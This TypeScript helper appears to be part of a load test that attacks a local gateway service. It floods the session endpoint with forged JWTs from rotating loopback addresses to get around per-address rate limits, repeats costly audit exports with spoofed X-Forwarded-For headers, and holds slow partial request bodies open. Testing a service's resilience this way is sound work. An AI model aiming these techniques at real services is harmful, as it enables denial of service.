// Started by load.ts as a separate process, so that the attack does not slow down the measurement.
import { randomBytes } from 'node:crypto';
import { Agent, get } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const [kind = '', url = '', count = '0', token = ''] = process.argv.slice(2);

const tokensPerSecond = 500;
/** The signature of a key of 2048 bits. */
const signatureLength = 256;

/** A client address per connection, so that the limits per address have no effect. */
const addressOf = (network: number, index: number): string =>
  [network, (index >> 16) & 255, (index >> 8) & 255, index & 255].join('.');

const encode = (part: object): string => Buffer.from(JSON.stringify(part)).toString('base64url');

function makeUpToken(): string {
  const exp = Math.floor(Date.now() / 1000) + 3600;
  const claims = encode({ sub: randomBytes(8).toString('hex'), exp });
  return `${encode({ alg: 'RS256', typ: 'JWT' })}.${claims}.${randomBytes(signatureLength).toString('base64url')}`;
}

/** At a fixed rate from addresses of this machine, each with one request at a time. Prints the statuses when stopped. */
async function sendTokens(addresses: number): Promise<void> {
  const agents = Array.from({ length: addresses }, (_, index) => {
    const localAddress = addressOf(127, index + 256);
    return new Agent({ keepAlive: true, maxSockets: 1, localAddress });
  });
  const statuses: Record<string, number> = {};
  process.once('SIGTERM', () => {
    console.log(`statuses ${JSON.stringify(statuses)}`);
    process.exit();
  });
  const start = performance.now();
  for (let sent = 0; ; sent += 1) {
    const due = start + (sent / tokensPerSecond) * 1000;
    if (due > performance.now()) await pause(due - performance.now());
    const agent = agents.shift();
    // All addresses wait for an answer.
    if (agent === undefined) continue;
    const end = (status = 0): void => {
      agents.push(agent);
      statuses[status] = (statuses[status] ?? 0) + 1;
    };
    const headers = { authorization: `Bearer ${makeUpToken()}` };
    get(`${url}/gateway/session`, { agent, headers }, (response) => {
      response.resume().once('close', () => end(response.statusCode));
    }).once('error', () => end());
  }
}

async function repeatExport(index: number): Promise<void> {
  for (;;) {
    const headers = { authorization: `Bearer ${token}`, 'x-forwarded-for': addressOf(10, index) };
    await fetch(`${url}/gateway/audit/export?to=${new Date().toISOString()}`, { headers })
      .then((response) => response.arrayBuffer())
      .catch(() => undefined);
    await pause(1_000);
  }
}

function holdSlowBody(index: number): void {
  const head = [
    'POST /gateway/schools HTTP/1.1',
    'Host: a',
    `Authorization: Bearer ${makeUpToken()}`,
    `X-Forwarded-For: ${addressOf(10, index)}`,
    'Content-Length: 1000',
  ];
  const socket = connect(Number(new URL(url).port), '127.0.0.1', () => {
    socket.write(`${head.join('\r\n')}\r\n\r\n{`);
  });
  socket.on('error', () => {}).resume();
  socket.once('close', () => setTimeout(() => holdSlowBody(index), 100));
}

if (kind === 'tokens') void sendTokens(Number(count));
else
  for (let index = 0; index < Number(count); index += 1) {
    if (kind === 'exports') void repeatExport(index);
    else holdSlowBody(index);
  }
console.log('started');
